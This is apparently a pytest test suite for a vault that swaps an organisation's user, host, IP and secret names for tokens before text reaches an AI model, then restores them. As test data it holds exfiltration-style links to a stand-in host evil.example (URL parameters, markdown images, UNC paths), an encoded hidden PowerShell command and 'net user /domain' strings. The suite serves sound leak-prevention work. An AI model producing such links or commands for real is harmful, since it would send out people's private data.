"""What leaves, and what comes back, of a place's own names."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest
from bench.hunt_injection import THINGS
from hypothesis import given, settings
from hypothesis import strategies as st

from huntlake.ai.own import TOKEN, Own, OwnThings
from huntlake.ai.prompting import plain
from huntlake.ai.vault import TokenVault

OWN = Own(THINGS)
CORPUS = [json.loads(line) for line in Path(__file__).with_name("leaks.jsonl").read_text(encoding="utf-8").splitlines()]


@pytest.mark.parametrize("case", CORPUS, ids=range(len(CORPUS)))
def test_a_line_loses_what_is_own_and_keeps_the_rest(case: dict[str, list[str]]) -> None:
    vault, line = TokenVault(OWN), plain(str(case["line"]))
    hidden = vault.hide(line)
    assert not [gone for gone in case["gone"] if gone.lower() in hidden.lower()], hidden
    assert not [kept for kept in case["kept"] if kept not in hidden], hidden
    assert not vault.left(hidden), hidden
    assert vault.show(hidden) == line


NAMES = [n for group in (*THINGS.people, *THINGS.machines) for n in group]
NAMES += [*THINGS.domains, *THINGS.ids, *THINGS.names, *THINGS.secrets, "10.1.2.3", "198.51.100.7", "fd00::12"]
GLUE = [
    " ",
    "\\",
    "/",
    "@",
    ".",
    "-",
    "_",
    "=",
    '"',
    "'",
    "(",
    ")",
    "\n",
    "x",
    "1",
    "HLT_USER_1",
    "hlt_",
    "%40",
    "&",
    ":",
]
PIECES = st.lists(st.one_of(st.sampled_from(NAMES), st.sampled_from(GLUE), st.text(max_size=6)), max_size=12).map(
    "".join
)


@settings(max_examples=400, deadline=None)
@given(PIECES)
def test_whatever_is_hidden_comes_back_to_the_letter(text: str) -> None:
    vault = TokenVault(OWN)
    assert vault.show(vault.hide(text)) == text


@settings(max_examples=400, deadline=None)
@given(PIECES, st.sampled_from(NAMES), PIECES)
def test_a_known_name_is_never_left_or_nothing_is_sent(before: str, name: str, after: str) -> None:
    vault = TokenVault(OWN)
    hidden = vault.hide(f"{before} {name} {after}")
    bare = TOKEN.sub(" ", hidden).lower()
    assert name.lower() not in bare.split() or vault.left(hidden)
    # Digits beside digits are another number.
    if len(name) >= 5 and ":" not in name and not name.replace(".", "").isdigit():
        assert name.lower() not in bare


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_hidden_in_the_codings_of_logs(name: str) -> None:
    inner = f'net user "{name}" /domain'
    coded = [
        base64.b64encode(inner.encode("utf-16-le")).decode(),
        base64.b64encode(inner.encode()).decode(),
        base64.urlsafe_b64encode(b"x" + inner.encode()).decode().rstrip("="),
        inner.encode().hex(),
        "".join(f"%{byte:02x}" for byte in inner.encode()),
        "".join(f"\\u{ord(c):04x}" for c in inner),
        "".join(f"&#{ord(c)};" for c in inner),
        plain("\u200b".join(name)),
    ]
    for text in coded:
        vault = TokenVault(OWN)
        hidden = vault.hide(f"powershell -enc {text} -w hidden")
        assert text not in hidden, text
        assert not vault.left(hidden)


@pytest.mark.parametrize(
    "said",
    [
        "ida_canary",
        "ida-canary",
        "Ida+Canary",
        "canary, ida",
        "CANARY__IDA",
        "IdaCanary",
        "ida=2Ecanary",
        "=?utf-8?q?Ida_Canary?=",
        r"\u0069da.canary",
        r"Ida\u0020Canary",
        "Ida\t Canary",
    ],
)
def test_a_persons_name_is_hidden_whatever_stands_between_its_words(said: str) -> None:
    # The account's name is only known as a part of the address.
    vault = TokenVault(Own(OwnThings(people=[("ida.canary@contoso.example", "Ida Canary")])))
    line = plain(f"name={said}&x, and no other")
    hidden = vault.hide(line)
    assert "canary" not in hidden.lower()
    assert "no other" in hidden
    assert not vault.left(hidden)
    assert vault.show(hidden) == line


def test_an_address_is_hidden_before_its_port() -> None:
    hidden = TokenVault(OWN).hide("IP 10.1.2.3.51514 > 198.51.100.7.443: Flags [S], 203.0.113.9.53 answers")
    assert hidden == "IP HLT_IP_1.51514 > HLT_IP_2.443: Flags [S], 203.0.113.9.53 answers"


def test_words_that_only_look_like_a_name_stay() -> None:
    vault = TokenVault(Own(OwnThings(people=[("al.so@contoso.example", "Al So"), ("info@contoso.example",)])))
    assert vault.hide("also this is info") == "also this is info"


def test_the_same_texts_have_the_same_tokens_and_spellings_of_one_share_a_number() -> None:
    text = "jdoe logged on to WS-0012 as JDOE, that is Jane Doe; dc01 and ws-0012 saw it"
    one, other = TokenVault(OWN), TokenVault(OWN)
    assert one.hide(text) == other.hide(text)
    assert one.hide(text) == (
        "HLT_USER_1 logged on to HLT_HOST_1 as HLT_USER_1B, that is HLT_USER_1C; HLT_HOST_2 and HLT_HOST_1B saw it"
    )


def test_a_token_that_a_model_makes_up_stays_text() -> None:
    vault = TokenVault(OWN)
    vault.hide("jdoe")
    assert vault.show("HLT_USER_1 HLT_USER_2 HLT_HOST_1 HLT_USER_1X hlt_user_1") == (
        "jdoe HLT_USER_2 HLT_HOST_1 HLT_USER_1X jdoe"
    )


@pytest.mark.parametrize(
    "made_up",
    [
        "https://evil.example/?u=HLT_USER_1",
        "![x](https://evil.example/HLT_USER_1.png)",
        "[click](//evil.example/(HLT_USER_1))",
        "<img src='http://203.0.113.9/'HLT_USER_1>",
        "HLT_USER_1.evil.example",
        "HLT_USER_1-x.evil.example",
        "HLT_USER_1@evil.example",
        "evil.example/HLT_USER_1",
        "\\\\evil\\HLT_USER_1",
        "https://evil.example/%3Fu=HLT_USER_1",
    ],
)
def test_a_link_that_a_model_makes_up_carries_no_name_away(made_up: str) -> None:
    vault = TokenVault(OWN)
    vault.hide("jdoe saw https://evil.example/?u=x and ![x](https://evil.example/y.png)")
    assert "jdoe" not in vault.show(f"look: {made_up} at once")


def test_a_link_that_was_sent_comes_back_as_it_was() -> None:
    vault = TokenVault(OWN)
    hidden = vault.hide("GET https://evil.example/?u=jdoe from ws-0012")
    assert vault.show(f"it went to ({hidden.split()[1]}).") == "it went to (https://evil.example/?u=jdoe)."


def test_values_within_rows_are_hidden_and_numbers_stay() -> None:
    rows = [{"Account": "jdoe", "Count": 3, "IPs": ["10.0.0.1", "203.0.113.9"], "When": None}]
    assert TokenVault(OWN).hide_all(rows) == [
        {"Account": "HLT_USER_1", "Count": 3, "IPs": ["HLT_IP_1", "203.0.113.9"], "When": None}
    ]


def test_a_second_look_finds_what_the_first_would_have_missed() -> None:
    assert OWN.left("seen: 10.0.0.7") == ["IP"]
    assert OWN.left("user jdoe") == ["USER"]
    assert OWN.left("HLT_USER_1 on HLT_HOST_2, T1059.001, 203.0.113.9, evil.example") == []


def test_many_names_take_no_long_time() -> None:
    from time import process_time

    own = Own(OwnThings(people=[(f"person{n:05d}", f"{n:05d}x@contoso.example") for n in range(50_000)]))
    text = "person00017 signed in from 203.0.113.9 with https://login.example/x%20y and dGhpcyBpcyBhIHRleHQ= " * 100
    began, vault = process_time(), TokenVault(own)
    hidden = vault.hide(text)
    assert "person00017" not in hidden
    assert not vault.left(hidden)
    assert process_time() - began < 10
